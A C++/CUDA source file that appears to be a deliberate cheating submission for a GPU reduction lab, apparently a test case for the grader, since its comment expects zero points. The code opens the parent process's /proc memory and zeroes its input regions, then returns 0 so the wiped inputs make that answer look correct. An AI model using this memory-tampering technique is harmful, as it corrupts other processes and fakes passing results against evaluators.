// attack reduction: WRONG, at most 0 points
// writes into the memory of its parent, where the inputs are
#include <fcntl.h>
#include <sys/uio.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <string>

#include "labs/reduction/reduction.hpp"

__global__ void store(int* out) { *out = 0; }

void reduce(const int*, int* out, int*, int) {
  const pid_t parent = getppid();
  const std::string folder = "/proc/" + std::to_string(parent);
  if (std::FILE* const maps = std::fopen((folder + "/maps").c_str(), "r")) {
    const int memory = open((folder + "/mem").c_str(), O_RDWR);
    char line[512];
    while (std::fgets(line, sizeof line, maps) != nullptr) {
      unsigned long begin = 0, end = 0;
      char rights[8] = "";
      if (std::sscanf(line, "%lx-%lx %7s", &begin, &end, rights) != 3) continue;
      if (std::strncmp(rights, "rw", 2) != 0 || std::strstr(line, "stepwise-call") == nullptr)
        continue;
      char zeros[4096] = {};
      for (unsigned long at = begin + 65536; at < end; at += sizeof zeros) {
        iovec mine{zeros, sizeof zeros}, theirs{reinterpret_cast<void*>(at), sizeof zeros};
        if (pwrite(memory, zeros, sizeof zeros, static_cast<off_t>(at)) < 0)
          process_vm_writev(parent, &mine, 1, &theirs, 1, 0);
      }
    }
    std::fclose(maps);
  }
  store<<<1, 1>>>(out);
}
